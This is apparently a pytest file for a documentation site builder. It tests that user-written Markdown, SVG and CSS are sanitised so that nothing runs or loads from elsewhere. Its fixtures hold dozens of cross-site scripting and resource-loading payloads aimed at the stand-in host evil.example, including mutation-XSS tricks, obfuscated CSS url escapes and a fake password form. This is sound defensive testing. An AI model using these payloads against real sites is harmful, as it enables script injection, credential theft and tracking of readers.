# SPDX-License-Identifier: Apache-2.0
"""Hand-written files of `docs/`: what of them reaches a reader's browser, converted as the site builder does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markdown import Markdown
from mkdocs.structure.toc import get_toc

from secure_score_backlog.files import Document
from secure_score_backlog.site.configuration import EXTENSIONS, SANITISING
from secure_score_backlog.site.hand_written import (
    LARGEST_PICTURE,
    MARK,
    is_plain_css,
    marked,
    plain_svg,
    prepared,
    sanitised,
)
from secure_score_backlog.strict_yaml import read_yaml
from tests.support.bounded import within_seconds

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in a block": "<div markdown>\n<script>alert(1)</script>\n</div>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler in an attribute list": "[a](b.md){: onclick=alert(1) }",
    "a handler of a heading": "# Title {: onmouseover=alert(1) }",
    "an address that is a script": "[a](javascript:alert(1))",
    "an address that is a script, in HTML": "<a href='java&#x09;script:alert(1)'>a</a>",
    "a picture of a third party": "![a](https://evil.example/p.png)",
    "a picture without a scheme": "![a](//evil.example/p.png)",
    "a picture with backslashes": "<img src='\\\\evil.example\\p.png'>",
    "a picture set": "<img srcset='https://evil.example/p.png 1x' src='a.png'>",
    "a frame": "<iframe src='https://evil.example/'></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "a form": "<form action='https://evil.example/'><input type=password name=p></form>",
    "a button": "<button formaction='javascript:alert(1)'>a</button>",
    "a style": "<style>@import url(https://evil.example/x.css);</style>",
    "a style attribute": "<p style='background:url(https://evil.example/p.png)'>a</p>",
    "a link element": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "another page": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "a vector picture": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "a formula": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a broken comment": "<!--><img src=x onerror=alert(1)>-->",
    "a video": "<video poster='https://evil.example/p.png'><source src='https://evil.example/v'></video>",
    "the theme's settings": "<div id=__config>{}</div><a id=__search>a</a>",
    "a name of the document": "<img name=body src=a.png>",
    "an abbreviation": 'x\n\n*[x]: "><img src=x onerror=alert(1)>',
    "a footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "a code block's language": "```{ .x onclick=alert(1) }\na\n```",
    "an admonition's title": '!!! note "<img src=x onerror=alert(1)>"\n    a',
    "an end of the article": "</article></main><script>alert(1)</script>",
    "the mark again": f"{MARK}\n<script>alert(1)</script>",
    "an end of the front matter": "---\n<script>alert(1)</script>",
    "a diagram, for which the theme loads a script": '<pre class="mermaid"><code>graph TD; A-->B</code></pre>',
    "a diagram in an attribute list": "``` { .mermaid }\ngraph TD\n```\n\na\n{: .mermaid }",
    "a part of the theme": '<div class="own-box md-overlay" data-md-component="source">a</div>',
    "a preview": '<a data-preview href="https://evil.example/">a</a>',
    "an address that is told of a click": '<a href="b.md" ping="https://evil.example/">a</a>',
    "a picture with a tab in its address": '<img src="/\t/evil.example/p.png"><img src="ht\ntps://evil.example/p.png">',
    "a picture with a reference in its address": '<img src="&#9;&sol;&Tab;&sol;evil.example/p.png">',
    "a picture of a chosen size": "<picture><source srcset='https://evil.example/p.png 1x'><img src=a.png></picture>",
    "a picture that is loaded ahead": "<link rel=preload as=image imagesrcset='https://evil.example/p.png 1x'>",
    "an old background": "<table background='https://evil.example/p.png'><tr><td background='//evil.example'>a</table>",
    "a cell with a style": "<table><tr><td style='background:url(https://evil.example/p.png)'>a</td></tr></table>",
    "a long description": "<img src=a.png longdesc='https://evil.example/' usemap='#a' dynsrc='//evil.example/p'>",
    "a picture as data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
}
"""Pages that run or load something, by what they do it with."""


class Page(HTMLParser):
    """What a browser would run, or load from elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.tags: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what is not plain."""
        self.tags.append(tag)
        self.faults += ["input"] if tag == "input" and dict(attrs).get("type") not in {"checkbox", "radio"} else []
        active = {"script", "style", "iframe", "object", "embed", "form", "button", "link", "meta", "base", "svg",
                  "math", "video", "audio", "source", "noscript", "template"}  # fmt: skip
        self.faults += [tag] if tag in active else []
        for name, value in attrs:
            text = "".join((value or "").split()).lower()
            runs = name.startswith("on") or "script:" in text or name in {"srcset", "srcdoc", "action", "imagesrcset"}
            runs = runs or (name == "style" and "url" in text)
            loads = name == "src" and (text.startswith(("//", "\\")) or ":" in text)
            theirs = text.startswith("__") if name == "id" else name == "name" and tag != "input"
            theme = name == "class" and bool({"mermaid", "md-overlay"} & set((value or "").split()))
            tells = name.startswith("data-") or name in {"ping", "background", "longdesc", "usemap", "dynsrc"}
            self.faults += [f"{tag} {name}"] if runs or loads or theirs or theme or tells else []


def converted(page: str) -> str:
    """A page as the site builder converts it: staged, front matter taken off, with every extension that is allowed."""
    staged = marked(page.encode()).decode()
    head, _, body = staged.removeprefix("---\n").partition("\n---\n")
    assert read_yaml(head, "page").data["hand_written"] is True
    return Markdown(extensions=[*EXTENSIONS, SANITISING]).convert(body.lstrip("\n"))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("before", ["", "---\ntitle: x\n---\n", "\ufeff", "\n\n", "key: value\n\n"])
def test_nothing_of_a_page_runs_or_loads(text: str, before: str) -> None:
    """Whatever it tries, also in a list and behind every kind of beginning."""
    for page in (before + text, f"{before}- a\n\n    {text}"):
        assert Page(converted(page)).faults == []


@pytest.mark.parametrize(
    "heading",
    [
        "# T {: id='x\" onmouseover=\"alert(1)' }",
        "# T {: id='x><img src=x onerror=alert(1)>' }",
        "<h2 markdown id='x\" onmouseover=\"alert(1)'>T</h2>",
        "T {: id='x\" onmouseover=\"alert(1)' }\n---",
        "## T {: data-toc-label='\"><img src=x onerror=alert(1)>' }",
    ],
)
def test_the_list_of_headings_holds_no_markup(heading: str) -> None:
    """The theme prints names and titles of headings as they are, so an address of one must not end its attribute."""
    converter = Markdown(extensions=[*EXTENSIONS, SANITISING])
    converter.convert(f"{MARK}\n\n{heading}\n\n## Other {{: #its-name }}\n")
    listed = list(get_toc(vars(converter)["toc_tokens"]))
    entries = [*listed, *(child for entry in listed for child in entry.children)]
    assert [entry.url for entry in entries][-1] == "#its-name"
    assert len(entries) == 2
    for entry in entries:
        assert re.fullmatch(r"#[\w.:-]+", entry.url)
        assert not re.search(r"[<>]", entry.title)  # text of an element, never of an attribute


def test_a_page_is_hand_written_wherever_its_mark_is() -> None:
    """A builder that cannot read the front matter leaves it before the mark."""
    html = Markdown(extensions=[SANITISING]).convert(f"---\ntitle: x\n---\n{MARK}\n\n<script>alert(1)</script>\n")
    assert "script" not in html


def test_a_field_is_taken_out_as_a_whole() -> None:
    """Whatever its attributes hold; boxes to tick stay, with theirs."""
    html = sanitised(
        '<input name="a>" title="<img src=x onerror=alert(1)>"><input type=text title="type=&quot;radio&quot;">'
    )
    assert html == ""
    html = sanitised('<input title=\' type="checkbox" >\' name=q>a<input type=checkbox title="a>b" checked>')
    assert re.fullmatch(r'a<input type="checkbox" title="a(?:>|&gt;)b" checked="">', html)


def test_classes_of_extensions_and_of_an_own_style_sheet_stay() -> None:
    """Boxes, tokens of code, buttons and what begins with `own-`; others go, one by one."""
    html = converted("!!! danger\n    a\n\n``` python\nif a: pass\n```\n\na\n{: .own-red .evil .md-button }\n")
    assert 'class="admonition danger"' in html
    assert re.search(r'class="highlight"|class="language-python', html)
    assert 'class="own-red md-button"' in html


@pytest.mark.parametrize("text", [text for name, text in HOSTILE.items() if name not in {
    "an end of the article", "a code block's language", "an abbreviation", "a broken comment", "a formula", "noscript",
}])  # fmt: skip
def test_the_attacks_are_real(text: str) -> None:
    """Without the mark, as with `--trust-docs`, they get through: the test above could fail."""
    html = Markdown(extensions=[*EXTENSIONS, SANITISING]).convert(text)
    assert Page(html).faults != [] or MARK in text or text.startswith(("[a](b.md)", "---"))


def test_plain_pages_keep_what_they_are_made_of() -> None:
    """Headings with links, tables, boxes, tabs, task lists, notes and pictures of the site."""
    page = """# Title

Some *text*, `code`, [a page](other.md#part), [elsewhere](https://example.com/?a=b), <kbd>Ctrl</kbd>, H~2~O[^1].

!!! note "Mind"
    A box.

??? tip
    A fold.

| a | b |
|:--|--:|
| 1 | 2 |

- [x] done

=== "One"

    first

```python
print(1)
```

![a picture](picture.png){ width="300" }

term
:   meaning

[^1]: a note
"""
    html = converted(page)
    tags = Page(html).tags
    for tag in ("h1", "em", "code", "a", "kbd", "sub", "table", "details", "summary", "img", "dl", "pre", "input"):
        assert tag in tags, tag
    assert 'src="picture.png"' in html
    assert 'href="https://example.com/?a=b"' in html
    assert 'class="admonition note"' in html
    assert 'id="title"' in html
    assert "text-align:right" in html.replace(" ", "")
    assert 'type="checkbox"' in html


def test_front_matter_keeps_what_the_theme_prints() -> None:
    """Titles are escaped, because themes print them as they are; templates and unknown keys are left out."""
    page = marked(
        b"---\ntitle: '</title><script>alert(1)</script> \\ \"x\"'\ntemplate: evil.html\nhide: [toc, x]\n"
        b"tags: [a, '<b>']\nsearch: {exclude: true, boost: 9}\nicon: ../x\n---\n# A\n"
    ).decode()
    head = read_yaml(page.removeprefix("---\n").partition("\n---\n")[0], "page").data
    assert set(head) == {"title", "hide", "tags", "search", "hand_written"}
    assert "<" not in str(head["title"])
    assert head["hide"] == ["toc"]
    assert head["tags"] == ["a", "&lt;b&gt;"]
    assert page.endswith(f"---\n{MARK}\n\n# A\n")


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{0}>{1}</svg>'
)


@pytest.mark.parametrize(
    ("attribute", "inside"),
    [
        (' onload="alert(1)"', ""),
        ("", "<script>alert(1)</script>"),
        ("", "<a href='javascript:alert(1)'><path d='M0 0'/></a>"),
        ("", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>x</script></body></foreignObject>"),
        ("", "<image href='https://evil.example/p.png'/>"),
        ("", "<use href='https://evil.example/s.svg#a'/>"),
        ("", "<use xlink:href='data:image/svg+xml,x'/>"),
        ("", "<style>@import url(https://evil.example/x.css)</style>"),
        ("", "<path style='fill:url(https://evil.example/p)' d='M0 0'/>"),
        ("", "<path fill='url(https://evil.example/p)' d='M0 0'/>"),
        ("", "<set attributeName='href' to='javascript:alert(1)'/>"),
        ("", "<animate attributeName='href' values='javascript:alert(1)'/>"),
        ("", "<svg onload='alert(1)'/>"),
        ("", "<path mask='image-set(&quot;https://evil.example/p.png&quot; 1x)' d='M0 0'/>"),
        ("", "<path fill='u\\72l(&quot;https://evil.example/p.png&quot;)' d='M0 0'/>"),
        ("", "<path filter='url(#a) src(&quot;//evil.example/p.png&quot;)' d='M0 0'/>"),
        ("", "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
    ],
)
def test_nothing_of_a_picture_runs_or_loads(attribute: str, inside: str) -> None:
    """What is no drawing goes; the drawing stays."""
    picture = plain_svg(SVG.format(attribute, f"{inside}<path d='M1 1h2' fill='#fff'/>").encode())
    assert picture is not None
    text = picture.decode()
    for word in ("script", "onload", "evil", "style", "foreign", "javascript", "data:"):
        assert word not in text.lower(), text
    assert 'd="M1 1h2"' in text
    assert 'viewBox="0 0 9 9"' in text


def test_a_drawing_keeps_its_colours_and_moves() -> None:
    """References inside the picture, transformations and colours that are functions."""
    inside = "<g transform='translate(1 2) rotate(9)' fill='rgb(1,2,3)' stroke='url(#a) none' aria-label='f(x)'/>"
    text = (plain_svg(SVG.format("", inside).encode()) or b"").decode()
    for kept in ("translate(1 2) rotate(9)", "rgb(1,2,3)", "url(#a) none", "f(x)"):
        assert kept in text


@pytest.mark.parametrize(
    "text",
    [SVG.format("", "<g>" * 3000 + "</g>" * 3000), SVG.format("", "<g>" * 50_000 + "</g>" * 50_000),
     SVG.format("", f"<text>{'a' * LARGEST_PICTURE}</text>"), SVG.format("", "").encode("utf-16").decode("latin-1"),
     "<html/>", "<svg/>", "no", "", "<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG.format("", "&a;"), SVG.format("", "<")],
)  # fmt: skip
def test_what_is_no_plain_picture_is_left_out(text: str) -> None:
    """Other XML, what is too deep or too large, and a document type, which may define entities."""
    assert plain_svg(text.encode()) is None


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("p { color: red; background: url(p.png) }", True),
        ("@import 'x.css';", False),
        ("p { background: url(//evil.example/p) }", False),
        ("p { background: url('https://evil.example/p') }", False),
        ("p { background: url(https:evil.example/p) }", False),
        ("p { background: u\\72l(x) }", False),
        ("@font-face { src: url(data:font/woff;base64,x) }", False),
        ("p { background: url('/\t/evil.example/p') }", False),
        ("p { background: url('/\n/evil.example/p') }", False),
        ("p { background: url('ht\ttps:/\t/evil.example/p') }", False),
        ("p { background: url(/p.png) }", False),
        ("p { background: image-set('https:evil.example/p' 1x) }", False),
        ("p { background: -webkit-image-set(url(p.png) 1x) }", False),
        ("p { background: src('p.png') }", False),
        ("p { background: cross-fade('a', 'b') }", False),
        ("p { behavior: expression(alert(1)) }", False),
        ("@IMPORT 'x.css';", False),
        ("@import/**/'x.css';", False),
        ("@namespace url(x);", False),
        ("@charset 'utf-7';", False),
        ('@charset "gbk"; p { color: red }', False),
        ("p { content: '//' }", False),
        ("p { background: url(\"p.png') }", False),
        ("p { color: red; \x00 }", False),
        ('p { content: "/*\n} q { background: image-set("https:evil.example/p" 1x) } /*" */', False),
        ("p { background: url(a'/*) } q { background: image-set('https:evil.example/p' 1x) } /*') */", False),
        ('@charset "utf-8"; p { color: red }', True),
        ("/* see https://example.com: it's f(x) @import */ p { color: red }", True),
        ("/* never closed: @import 'x.css'", True),
        ("@media (min-width: 1px) and (max-width: 9em) { p:not(.a) > q { width: calc(1px * (2 + 3)) } }", True),
        ("@font-face { src: url('../fonts/a-b.woff2?#iefix') format('woff2') } p { mask: url(#a) }", True),
    ],
)
def test_a_style_sheet_that_loads_from_elsewhere_is_known(text: str, plain: bool) -> None:
    """Any address with a scheme or a host, any import, any function that loads, and what could hide one."""
    assert is_plain_css(text.encode()) is plain


def test_a_style_sheet_in_another_encoding_is_left_out() -> None:
    """Browsers follow the byte order mark, so what would be searched is not what they read."""
    hostile, plain = "@import 'https://evil.example/x.css';", "p { color: red }"
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        assert not is_plain_css(hostile.encode(encoding))
        assert not is_plain_css(plain.encode(encoding))
    assert not is_plain_css("p::before { content: 'é' }".encode("latin-1"))
    assert is_plain_css(plain.encode("utf-8-sig"))


@pytest.mark.parametrize("text", ["/*", '"', "url(a/", "a", "url(" + "a/" * 9, "../", "url( ", "@", "/* */'"])
def test_a_long_style_sheet_is_read_in_linear_time(text: str) -> None:
    """Each repeated until a reader that goes back and forth would take hours."""
    with within_seconds(60):
        is_plain_css((text * 400_000).encode())
        is_plain_css(f"url({text * 400_000}".encode())


def test_programs_are_left_out_and_named() -> None:
    """Scripts, pages of HTML and names with markup do not reach the site; data and pictures do, byte for byte."""
    files = {"a.js": b"x", "a.html": b"x", "a.xhtml": b"x", "a": b"x", "a.MD": b"x", "a.wasm": b"x", "<b>.md": b"x"}
    files |= dict.fromkeys(
        ["a.html.gz", "a.js.drawio", "a.HTML.log", "_routes.json", "_config.yml", "x/vercel.json"], b"x"
    )
    files |= {"staticwebapp.config.json": b"x", "StaticWebApp.config.json": b"x"}
    kept, notes = prepared([Document(path, content) for path, content in files.items()])
    assert kept == []
    assert len(notes) == len(files)
    assert all("--trust-docs" in note for note in notes)
    nameless = ["caf\udce9.png", "a:b.png", "a\\b.png", "a\u2028b.png", "a\u0085b.md", "a\u202eb.md"]
    for trusted in (False, True):
        kept, notes = prepared([Document(path, b"x") for path in nameless], trusted=trusted)
        assert kept == []
        assert all("no file of a site can have its name" in note for note in notes)
        assert len(notes) == len(nameless)
    plain = [
        Document("report v1.2.pdf", b"%PDF"),
        Document("own.config.json", b"{}"),
        Document("p.png", b"\x89PNG"),
        Document("t.csv", b"a"),
        Document("guide/x.pdf", b"%PDF"),
    ]
    assert prepared(plain) == (plain, [])


@pytest.mark.parametrize(
    ("page", "title"),
    [
        ("# A &lt;/title&gt;&lt;script&gt; *b*\n", "A &lt;/title&gt;&lt;script&gt; b"),
        ("# Q & A {: #x }\n", "Q &amp; A"),
        ("Setext\n===\n", "Setext"),
        ("text\n\n# Later\n", "my page"),
        ("<h1>x</h1>\n", "my page"),
        ("---\ntitle: Own\n---\n# Other\n", "Own"),
    ],
)
def test_a_page_always_has_a_title(page: str, title: str) -> None:
    """Else the builder finds one, and the theme resolves its character references into markup."""
    assert f'title: "{title}"\n' in marked(page.encode(), "my-page").decode()
